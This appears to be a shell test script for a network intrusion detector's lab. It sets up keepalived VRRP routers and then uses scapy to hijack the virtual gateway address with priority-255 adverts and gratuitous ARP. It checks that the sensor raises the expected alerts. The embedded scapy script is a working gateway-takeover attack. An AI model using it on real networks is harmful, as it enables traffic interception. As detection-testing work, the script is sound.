#!/bin/sh
# Lab scenario vrrp-hijack: the classic first-hop redundancy takeover (what Yersinia's
# VRRP attack does), crafted with scapy (python3-scapy; yersinia itself is interactive).
# Baseline: keepalived VRRP between gw (master, priority 150) and srv (backup, 100) for
# virtual router 52, 192.0.2.253 on the routers' own MACs (keepalived's default, VRRPv2,
# 1 s adverts); the victim pings the virtual IP (no alert >= 4).
# Attack: the attacker advertises VRID 52 with priority 255 ("I own the address": every
# router steps down) three times, one second apart, from its own MAC and IP (TTL 255 to
# 224.0.0.18, as a router would), then sends gratuitous ARP for 192.0.2.253 at its MAC.
# Expected live: fhrp.new_speaker (new_mac 02:00:00:00:00:66, severity 8: priority 255)
# and arp.ip_mac_changed for 192.0.2.253 to 02:00:00:00:00:66 - a speaker first heard a
# second before its ARP claim, outbidding a live master, is no failover (arp.c
# vrrp_failover()).
# shellcheck disable=SC2016
set -eu
# shellcheck source=tests/lib.sh
. "${top_srcdir:-$(cd "$(dirname "$0")/../.." && pwd)}/tests/lib.sh"
# shellcheck source=tests/lab/lab.sh
. "$top_srcdir/tests/lab/lab.sh"

lab_init vrrp-hijack
lab_need keepalived ping timeout
# scapy may live in the system python only (python3-scapy).
SCAPY_PY=
for _py in "$PYTHON3" /usr/bin/python3; do
	if "$_py" -c 'import scapy.layers.vrrp' >/dev/null 2>&1; then
		SCAPY_PY=$_py
		break
	fi
done
[ -n "$SCAPY_PY" ] || skip "vrrp-hijack needs scapy (Debian package python3-scapy)"
lab_up
VIP=192.0.2.253

lab_config "$tmp/lab.yaml"

# keepalived_conf HOST STATE PRIORITY
keepalived_conf() {
	cat >"$tmp/ka-$1.conf" <<EOC
global_defs {
	router_id lab-$1
	vrrp_garp_master_refresh 0
}
vrrp_instance lab2 {
	state $2
	interface eth0
	virtual_router_id 52
	priority $3
	advert_int 1
	virtual_ipaddress {
		$VIP/24
	}
}
EOC
}
keepalived_run() {
	lab_bg "$1" "$tmp/ka-$1.log" keepalived -n -l -D -P -f "$tmp/ka-$1.conf" \
		-p "$tmp/ka-$1.pid" -r "$tmp/ka-$1-vrrp.pid"
}
vip_on() { # HOST: the virtual IP is configured on HOST
	lab_exec "$1" ip -4 addr show dev eth0 2>/dev/null | grep -q "$VIP/"
}
keepalived_conf gw MASTER 150
keepalived_conf srv BACKUP 100
keepalived_run gw
keepalived_run srv
wait_until 15 vip_on gw || die "keepalived on gw did not take the virtual IP: $(tail -n 20 "$tmp/ka-gw.log")"

cat >"$tmp/hijack.py" <<EOF
# VRRPv2 advertisements for VRID 52 at priority 255, then gratuitous ARP for $VIP.
import time
from scapy.all import ARP, Ether, IP, sendp
from scapy.layers.vrrp import VRRP
mac = "$LAB_ATTACKER_MAC"
adv = (Ether(src=mac, dst="01:00:5e:00:00:12") /
       IP(src="$LAB_ATTACKER_IP", dst="224.0.0.18", ttl=255, proto=112) /
       VRRP(version=2, type=1, vrid=52, priority=255, ipcount=1, authtype=0, adv=1,
            addrlist=["$VIP"]))
garp = (Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") /
        ARP(op=1, hwsrc=mac, psrc="$VIP", hwdst="00:00:00:00:00:00", pdst="$VIP"))
for _ in range(3):
    sendp(adv, iface="eth0", verbose=False)
    time.sleep(1)
for _ in range(2):
    sendp(garp, iface="eth0", verbose=False)
    time.sleep(0.5)
EOF

lab_sensor_start "$tmp/lab.yaml"

lab_phase baseline
for _ in 1 2 3 4 5 6; do
	lab_exec victim ping -c 1 -W 1 "$VIP" >/dev/null || note "baseline: ping $VIP failed"
	sleep 0.5
done
sleep 1

lab_phase attack
lab_exec attacker timeout 20 "$SCAPY_PY" "$tmp/hijack.py" >"$tmp/hijack.log" 2>&1 ||
	die "scapy hijack failed: $(cat "$tmp/hijack.log")"
for _ in 1 2 3; do
	lab_exec victim ping -c 1 -W 1 "$VIP" >/dev/null 2>&1 || true
	sleep 0.3
done
lab_phase end

lab_sensor_stop
lab_check --quiet baseline:4 \
	--expect "attack:fhrp.new_speaker:onpath.evidence.new_mac=$LAB_ATTACKER_MAC,onpath.evidence.vrid=52,event.severity=8" \
	--expect "attack:arp.ip_mac_changed:onpath.evidence.new_mac=$LAB_ATTACKER_MAC,onpath.evidence.ip=$VIP" ||
	die "vrrp-hijack: alerts do not match (replay: onpath -r $lab_out/vrrp-hijack.pcap -c tests/golden/lab-config.yaml)"
echo "PASS: vrrp-hijack"
